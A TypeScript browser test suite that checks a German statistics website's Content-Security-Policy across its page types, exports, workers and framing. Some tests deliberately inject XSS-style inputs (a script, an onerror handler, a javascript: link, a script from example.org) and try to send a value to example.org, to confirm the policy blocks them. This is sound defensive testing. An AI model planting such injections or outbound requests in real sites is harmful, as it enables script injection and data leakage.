import {createServer} from "node:http";
import type {AddressInfo} from "node:net";
import type {Page} from "playwright-core";
import {describe, expect, it} from "vitest";
import {readCatalogue} from "../../loaders/contract/readCatalogue.js";
import {openPage, settle, visit} from "../support/browser.js";
import {speichereDaten} from "../support/mitnehmen.js";
import type {WatchedPage} from "../support/browser.js";
import {startJourney} from "../support/journey.js";
import {pageAddresses} from "../support/server.js";

const journey = startJourney();

/** One page of every kind; those made from one template differ only in their data. */
const kinds = (): string[] => [
  ...pageAddresses().filter((address) => !/^\/(gebiete|indikatoren|zentren)\/./.test(address)),
  "/gebiete/10",
  "/gebiete/102004",
  "/gebiete/10200421",
  `/indikatoren/${readCatalogue("data/catalogue").indicators[0]!.id}`,
  "/zentren/kompass",
  "/zentren/beispiel-marzahn-sued"
];

/** Lets *page* note every violation of its policy, also of those before its scripts run. */
async function listen(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const heard: string[] = [];
    Object.assign(globalThis, {verstoesse: heard});
    document.addEventListener("securitypolicyviolation", ({effectiveDirective, blockedURI, sourceFile, lineNumber}) =>
      heard.push(`${effectiveDirective}: ${blockedURI} (${sourceFile}:${lineNumber})`)
    );
  });
  return () => page.evaluate(() => (globalThis as unknown as {verstoesse: string[]}).verstoesse);
}

async function withPage(run: (watched: WatchedPage, violations: () => Promise<string[]>) => Promise<void>) {
  const watched = await openPage(journey.browser, journey.origin);
  try {
    await run(watched, await listen(watched.page));
  } finally {
    await watched.close();
  }
}

describe("under the site's Content-Security-Policy", () => {
  it("every kind of page draws itself, light, dark and in print, and breaks the policy nowhere", async () => {
    const faults: Record<string, string[]> = {};
    await withPage(async (watched, violations) => {
      const {page} = watched;
      for (const address of kinds()) {
        await visit(watched, address);
        await page.emulateMedia({colorScheme: "dark"});
        await settle(page);
        await page.evaluate(() => window.dispatchEvent(new Event("beforeprint")));
        await page.emulateMedia({media: "print"});
        await page.evaluate(() => window.dispatchEvent(new Event("afterprint")));
        await page.emulateMedia({media: "screen", colorScheme: "light"});
        const drawn = await page.evaluate(
          () => document.querySelector("[data-datenstand], .einbettung-zeile")?.textContent ?? ""
        );
        const found = [...watched.troubles(), ...(await violations())];
        // The footer's line is written by the first script of every page; the map for other sites has its own.
        if (!/\d{4}/.test(drawn)) found.push(`no script ran: ${drawn}`);
        if (found.length > 0) faults[address] = found;
      }
    });
    expect(faults).toEqual({});
  }, 480_000);

  it("the 404 page works at whatever depth it stands", async () => {
    await withPage(async (watched, violations) => {
      await watched.page.goto("/gibt/es/nicht", {waitUntil: "networkidle"});
      expect(await violations()).toEqual([]);
      expect(watched.troubles().filter((line) => !line.includes("404"))).toEqual([]);
      await watched.page.getByRole("combobox").fill("Hellersdorf-Nord");
      await watched.page.getByRole("option").first().waitFor();
      expect(await violations()).toEqual([]);
    });
  });

  it("a file can be saved, and a worker computes", async () => {
    await withPage(async (watched, violations) => {
      const {page} = watched;
      await visit(watched, "/bedarfsindex");
      // Each writer is loaded when it is asked for.
      for (const [format, endung] of [
        ["Excel (XLSX)", "xlsx"],
        ["Parquet", "parquet"]
      ] as const)
        expect((await speichereDaten(page, page.locator("main"), format)).name).toMatch(new RegExp(`\\.${endung}$`));
      expect(await violations()).toEqual([]);
      await visit(watched, "/daten-pruefen");
      // Set when the worker has answered.
      await page.locator(".pruefen-seite[data-bereit]").waitFor();
      expect(await violations()).toEqual([]);
      expect(watched.troubles()).toEqual([]);
    });
  });

  it("a script, a handler and a link with a script that somebody slipped in do not run", async () => {
    await withPage(async (watched, violations) => {
      const {page} = watched;
      await visit(watched, "/karte");
      await page.evaluate(() => {
        const script = document.createElement("script");
        script.textContent = "globalThis.eingeschleust = 'script'";
        const handler = document.createElement("div");
        handler.innerHTML = `<img src="/gibt-es-nicht.png" onerror="globalThis.eingeschleust = 'handler'">`;
        const link = document.createElement("a");
        link.href = "javascript:globalThis.eingeschleust='link'";
        const foreign = document.createElement("script");
        foreign.src = "https://example.org/x.js";
        document.body.append(script, handler, link, foreign);
        link.click();
      });
      await expect
        .poll(async () => (await violations()).map((line) => line.split(":")[0]).sort())
        .toEqual(["script-src-attr", "script-src-elem", "script-src-elem", "script-src-elem"]);
      expect(await page.evaluate(() => (globalThis as {eingeschleust?: string}).eingeschleust)).toBeUndefined();
      // The policy stopped the request before it was made.
      expect(watched.troubles().filter((line) => line.startsWith("request to another host"))).toEqual([]);
    });
  });

  it("a page can send nothing to another host", async () => {
    await withPage(async (watched, violations) => {
      await visit(watched, "/karte");
      const sent = await watched.page.evaluate(async () => {
        new Image().src = "https://example.org/?wert=1";
        return fetch("https://example.org/?wert=1").then(
          () => "sent",
          () => "refused"
        );
      });
      expect(sent).toBe("refused");
      expect((await violations()).map((line) => line.split(":")[0]).sort()).toEqual(["connect-src", "img-src"]);
      expect(watched.troubles().filter((line) => line.startsWith("request to another host"))).toEqual([]);
    });
  });

  it("no other site can show a page in a frame", async () => {
    const other = createServer((_, response) => {
      response.writeHead(200, {"Content-Type": "text/html"});
      response.end(`<!DOCTYPE html><title>Fremd</title><iframe src="${journey.origin}/karte"></iframe>`);
    });
    await new Promise<void>((done) => other.listen(0, "127.0.0.1", done));
    const context = await journey.browser.newContext();
    try {
      const page = await context.newPage();
      const refused = page.waitForEvent("requestfailed");
      await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
      const request = await refused;
      expect(request.url()).toBe(`${journey.origin}/karte`);
      expect(request.failure()?.errorText).toBe("net::ERR_BLOCKED_BY_RESPONSE");
    } finally {
      await context.close();
      other.close();
    }
  });
});
